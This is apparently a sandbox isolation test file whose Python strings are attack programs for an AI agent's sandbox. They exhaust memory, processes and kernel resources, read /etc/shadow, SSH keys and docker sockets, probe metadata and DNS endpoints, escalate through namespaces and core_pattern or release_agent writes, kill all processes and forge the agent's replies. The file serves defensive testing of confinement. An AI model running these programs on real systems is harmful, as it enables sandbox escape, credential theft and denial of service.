"""The longer programs of the attacks, in Python, as they run inside the sandbox.

They print a word in capitals for each thing that they should not have been able to do.
"""

# Before each of them: goes on whatever comes of a call.
TRIED = """
def tried(call, *arguments):
    try:
        return call(*arguments)
    except (OSError, ValueError):
        return None
"""

ENDLESS = r"""
import signal
for number in range(1, 65):
    tried(signal.signal, number, signal.SIG_IGN)
signal.pthread_sigmask(signal.SIG_BLOCK, range(1, 65))
while True:
    pass
"""

MANY_HOLD_MEMORY = r"""
import os, time
for _ in range(20):
    if not os.fork():
        held = bytearray(40 << 20)
        time.sleep(30)
while True:
    try:
        os.wait()
    except ChildProcessError:
        break
"""

MANY_FOLDERS = r"""
import os
made = 0
try:
    while True:
        os.mkdir(f"d{made}")
        made += 1
        if made % 5000 == 0:
            print(made, flush=True)
except OSError:
    pass
"""

SHARED_MEMORY = r"""
import ctypes
libc = ctypes.CDLL(None)
libc.shmat.restype = ctypes.c_void_p
while True:
    made = libc.shmget(0, 1 << 20, 0o1600)
    ctypes.memset(libc.shmat(made, None, 0), 1, 1 << 20)
"""

# Argument: how many bytes. Holds them in every way in which no process has them as its own.
HIDDEN_MEMORY = r"""
import ctypes, mmap, os, sys, time
wanted, block = int(sys.argv[1]), 16 << 20
libc = ctypes.CDLL(None)
libc.shmat.restype = ctypes.c_void_p
held = 0
def in_a_file(make):
    global held
    try:
        fd = make()
        for _ in range(wanted // block):
            held += os.write(fd, bytes(block))
    except OSError:
        pass
def namespace():
    libc.unshare(0x10000000 | 0x20000)
    if libc.mount(b"none", b"/tmp", b"tmpfs", 0, None):
        raise OSError
    return os.open("/tmp/file", os.O_CREAT | os.O_WRONLY)
in_a_file(lambda: os.memfd_create("x"))
in_a_file(namespace)
while held < 3 * wanted:
    made = libc.shmget(0, block, 0o1600)
    place = libc.shmat(made, None, 0) if made >= 0 else ctypes.c_void_p(-1).value
    if place == ctypes.c_void_p(-1).value:
        break
    ctypes.memset(place, 1, block)
    libc.shmdt(ctypes.c_void_p(place))
    held += block
kept = []
while held < 3 * wanted:
    kept.append(mmap.mmap(-1, block))  # shared
    kept[-1].write(bytes(block))
    kept[-1].madvise(mmap.MADV_DONTNEED)
    held += block
    print(held, flush=True)
time.sleep(0.3)
print("HELD", held)
"""

# In shell: one that needs next to no memory itself, and leaves nothing when it is killed.
EMPTY_FILES = "i=0; while :; do i=$((i+1)); : > f$$-$i || exit 3; done"

MANY_HANDLES = r"""
import os, threading, time
opened, threads = [], 0
try:
    while True:
        opened.append(os.open("/dev/null", 0))
except OSError:
    pass
for fd in opened:
    os.close(fd)
try:
    while True:
        threading.Thread(target=time.sleep, args=(9,), daemon=True).start()
        threads += 1
except (RuntimeError, MemoryError):
    pass
print(len(opened), threads, flush=True)
os._exit(0)
"""

DAEMON = r"""
import os, signal, sys, time
if os.fork():
    sys.exit()
os.setsid()
if os.fork():
    os._exit(0)
signal.pthread_sigmask(signal.SIG_BLOCK, range(1, 65))
os.closerange(0, 3)
while True:
    time.sleep(0.02)
    open("beat", "a").write("x")
"""

# Arguments: the secret, the folder it is in.
HOST_FILES = r"""
import glob, os, sys
secret, folder = sys.argv[1:]
places = [folder, "/proc/1/root" + folder, "/proc/self/root" + folder, "/host", "/mnt", "/media"]
files = ["/etc/shadow", "/etc/sudoers", "/dev/mem", "/dev/kmsg", "/dev/sda", "/dev/vda", "/proc/kcore"]
files += ["/var/run/docker.sock", "/run/docker.sock", "/run/podman/podman.sock"]
files += glob.glob("/root/.*") + glob.glob("/root/*") + glob.glob("/home/*/.ssh/*")
files += [place + "/secret" for place in places]
own = ("self", "thread-self", str(os.getpid()))
files += [path for path in glob.glob("/proc/*/environ") if path.split("/")[2] not in own]
for path in files:
    if tried(lambda: os.read(os.open(path, os.O_RDONLY | os.O_NONBLOCK), 1 << 20)):
        print("READ", path)
for place in places:
    if tried(os.listdir, place):
        print("READ", place)
if any(secret in value for value in os.environ.values()):
    print("SECRET in the environment")
"""

# Arguments: a port on the host's loopback, the name of an abstract socket there.
NETWORK = r"""
import socket, sys
def reach(what, family, kind, address, data=b""):
    try:
        with socket.socket(family, kind) as each:
            each.settimeout(0.5)
            each.connect(address)
            if data:
                each.send(data)
                each.recv(100)
            print("REACHED", what)
    except OSError:
        pass
reach("loopback", socket.AF_INET, socket.SOCK_STREAM, ("127.0.0.1", int(sys.argv[1])))
reach("abstract socket", socket.AF_UNIX, socket.SOCK_STREAM, "\0" + sys.argv[2])
query = b"\0\1\1\0\0\1\0\0\0\0\0\0\7example\3com\0\0\1\0\1"
servers = ["127.0.0.53", "1.1.1.1", "8.8.8.8", "169.254.169.254"]
resolver = tried(lambda: open("/etc/resolv.conf").readlines()) or []
servers += [line.split()[1] for line in resolver if line.startswith("nameserver")]
for server in servers:
    reach("dns at " + server, socket.AF_INET, socket.SOCK_DGRAM, (server, 53), query)
    reach("http at " + server, socket.AF_INET, socket.SOCK_STREAM, (server, 80))
if found := tried(socket.gethostbyname, "example.com"):
    print("REACHED a resolver:", found)
if tried(socket.socket, socket.AF_INET, socket.SOCK_RAW, 1):
    print("RAW sockets")
"""

PRIVILEGES = r"""
import ctypes, os
libc = ctypes.CDLL(None, use_errno=True)
NEWUSER, NEWNS, REMOUNT = 0x10000000, 0x20000, 32
for call in (os.setuid, os.setgid, os.seteuid):
    tried(call, 0)
    if 0 in (*os.getresuid(), os.getgid()):
        print("ROOT by", call.__name__)
with open("/proc/self/status") as status:
    if "NoNewPrivs:\t1" not in status.read():
        print("SETUID programs raise rights")
for flags in (0, NEWUSER, NEWUSER | NEWNS):
    if os.fork() == 0:
        libc.unshare(flags)
        tried(lambda: open("/proc/self/setgroups", "w").write("deny"))
        tried(lambda: open("/proc/self/uid_map", "w").write(f"0 {os.getuid()} 1"))
        for folder in (b"/", b"/usr", b"/proc", b"/sys"):
            libc.mount(b"none", folder, None, REMOUNT, None)
        for path in ("/usr/bin/planted", "/planted", "/etc/planted", "/usr/bin/env", "/etc/passwd",
                     "/proc/sys/kernel/core_pattern", "/proc/sys/vm/drop_caches", "/proc/sysrq-trigger",
                     "/sys/fs/cgroup/memory/cgroup.procs", "/sys/fs/cgroup/cgroup.procs",
                     "/sys/fs/cgroup/memory/release_agent", "/sys/kernel/uevent_helper"):
            if tried(open, path, "r+b" if os.path.exists(path) else "ab"):
                print("WROTE", path)
        tried(os.mknod, "disk", 0o60666, os.makedev(8, 0))
        if tried(lambda: open("disk", "rb").read(1)) is not None:
            print("DEVICE made")
        os._exit(0)
    os.wait()
"""

KILL_AGENT = r"""
import ctypes, os, resource
for pid in {1, os.getppid()}:
    for number in range(1, 65):
        tried(os.kill, pid, number)
    for limit in range(16):
        tried(resource.prlimit, pid, limit, (0, 0))
    ctypes.CDLL(None).ptrace(16, pid, 0, 0)
    tried(lambda: open(f"/proc/{pid}/oom_score_adj", "w").write("1000"))
"""

KILL_ALL = r"""
import os
for pid in range(1, 40000):
    if pid != os.getpid():
        tried(os.kill, pid, 9)
os.kill(-1, 9)
"""

# Writes what an answer of the agent looks like wherever it can be written.
FORGE = r"""
import os
frame = b"\0\0\0\x20" + b"0" * 16 + b"\0\0\0\x011\0\0\0\x04done" + b"\0" * 40
for fd in range(3, 1024):
    tried(os.write, fd, frame)
for pid in {1, os.getppid()}:
    for fd in range(64):
        for mode in ("wb", "ab", "r+b"):
            tried(lambda: open(f"/proc/{pid}/fd/{fd}", mode).write(frame))
    if tried(open, f"/proc/{pid}/mem", "r+b"):
        print("MEMORY of", pid)
os.write(1, frame)
os.write(2, frame)
print("honest")
raise SystemExit(3)
"""

TRAPS = r"""
import os, socket, sys
os.symlink("/etc/passwd", "link")
os.symlink(sys.argv[1], "bait")
os.symlink("/", "up")
os.mkfifo("fifo")
os.mkdir("dir")
open("one", "w").write("x")
os.link("one", "hard")
with open("huge", "wb") as file:
    file.truncate(12 << 20)
socket.socket(socket.AF_UNIX).bind("sock")
"""

# Arguments: the description and the number of a key that the host has in its session.
KEYS = r"""
import ctypes, os, sys
libc = ctypes.CDLL(None)
numbers = {"x86_64": (249, 250), "aarch64": (218, 219)}[os.uname().machine]
request_key, keyctl = numbers
READ, SEARCH, DESCRIBE = 11, 10, 6
name, buffer = sys.argv[1].encode(), ctypes.create_string_buffer(4096)
found = {int(sys.argv[2]), libc.syscall(request_key, b"user", name, None, 0)}
found |= {libc.syscall(keyctl, SEARCH, ring, b"user", name, 0) for ring in (-3, -4, -5)}
for key in found - {-1}:
    size = libc.syscall(keyctl, READ, key, buffer, 4096)
    if size > 0:
        print("KEY", buffer.raw[:size])
    if libc.syscall(keyctl, DESCRIBE, key, buffer, 4096) > 0 and name in buffer.raw:
        print("KEY is seen")
if name in (tried(lambda: open("/proc/keys", "rb").read()) or b""):
    print("KEY is listed")
"""

# Tries each call with arguments that do no harm: who gets any other error than these has reached the kernel.
CALLS = r"""
import ctypes, errno, mmap, os
libc = ctypes.CDLL(None, use_errno=True)
x86 = os.uname().machine == "x86_64"
nothing, some = None, ctypes.create_string_buffer(256)
user, fork = 0x10000000, 17
calls = {  # numbers on x86_64 and aarch64, arguments
    "io_uring_setup": (425, 425, 1, some), "userfaultfd": (323, 282, 1), "bpf": (321, 280, 0, some, 1),
    "perf_event_open": (298, 241, nothing, 0, -1, -1, 0), "keyctl": (250, 219, 0, -3, 0),
    "add_key": (248, 217, b"user", b"own", b"x", 1, -2),
    "request_key": (249, 218, b"user", b"none", nothing, 0),
    "clone of a user namespace": (56, 220, user | fork, 0, 0, 0, 0), "clone3": (435, 435, nothing, 0),
    "unshare of a user namespace": (272, 97, user), "unshare of a network": (272, 97, 0x40000000),
    "setns": (308, 268, -1, 0), "mount": (165, 40, nothing, nothing, nothing, 0, nothing),
    "fsopen": (430, 430, nothing, 0), "open_tree": (428, 428, -100, b"/none", 0),
    "fanotify_init": (300, 262, 0, 0), "open_by_handle_at": (304, 265, -1, some, 0),
    "kcmp": (312, 272, 0, 0, 9, 0, 0), "pidfd_getfd": (438, 438, -1, 0, 0),
    "memfd_secret": (447, 447, 1 << 9), "a socket to the machine around": (41, 198, 40, 1, 0),
    "a socket to the kernel's ciphers": (41, 198, 38, 5, 0), "kexec_load": (246, 104, 0, 0, nothing, 0),
    "init_module": (175, 105, nothing, 0, nothing), "syslog": (103, 116, 10, nothing, 0),
    "an x32 getpid": (0x40000000 | 39, 0x40000000 | 172), "a call of a future kernel": (999, 999),
}
for name, (a, b, *arguments) in calls.items():
    ctypes.set_errno(0)
    result = libc.syscall(a if x86 else b, *arguments)
    if name.startswith("clone") and result == 0:
        os._exit(0)
    if result != -1 or ctypes.get_errno() not in (errno.EPERM, errno.ENOSYS, errno.EAFNOSUPPORT):
        print("CALL", name, result, errno.errorcode.get(ctypes.get_errno()))
if x86:  # getpid by int 0x80, as a 32-bit program calls it
    page = mmap.mmap(-1, 4096, prot=7)
    page.write(b"\xb8\x14\0\0\0\xcd\x80\xc3")
    call = ctypes.CFUNCTYPE(ctypes.c_int)(ctypes.addressof(ctypes.c_char.from_buffer(page)))
    if call() > 0:
        print("CALL of 32 bits")
"""

# Argument: the limit on core dumps that should hold.
CORE_DUMP = r"""
import os, resource, sys
wanted = (int(sys.argv[1]),) * 2
CORE = resource.RLIMIT_CORE
tries = [
    lambda: resource.setrlimit(CORE, (0, wanted[1])),
    lambda: resource.setrlimit(CORE, (0, 0)),
    lambda: resource.prlimit(0, CORE, (0, 0)),
    lambda: resource.prlimit(os.getpid(), CORE, (0, 0)),
    lambda: resource.setrlimit(CORE, (resource.RLIM_INFINITY,) * 2),
]
for attempt in tries:
    tried(attempt)
    if resource.getrlimit(CORE) != wanted:
        print("CORE", resource.getrlimit(CORE))
if not os.fork():
    os.abort()
if os.WCOREDUMP(os.wait()[1]) or [name for name in os.listdir() if "core" in name]:
    print("CORE was dumped")
"""

# Takes what the kernel counts by user, and keeps it.
HOG = r"""
import ctypes, os, time
libc = ctypes.CDLL(None)
while libc.inotify_init() >= 0:
    pass
timer = ctypes.c_void_p()
for _ in range(200_000):
    if libc.timer_create(0, None, ctypes.byref(timer)):
        break
for _ in range(4):
    ready, done = os.pipe()
    if not os.fork():
        try:
            while True:
                os.pipe()
        except OSError:
            os.write(done, b"x")
        time.sleep(60)
    os.read(ready, 1)
print("full", flush=True)
time.sleep(60)
"""

NEIGHBOUR = r"""
import ctypes, fcntl, os
libc = ctypes.CDLL(None)
timer = ctypes.c_void_p()
if libc.inotify_init() < 0:
    print("LACKS inotify instances")
if libc.timer_create(0, None, ctypes.byref(timer)):
    print("LACKS timers")
try:
    if fcntl.fcntl(os.pipe()[1], 1032) < 65536:  # F_GETPIPE_SZ
        print("LACKS room in pipes")
except OSError:
    print("LACKS pipes")
"""
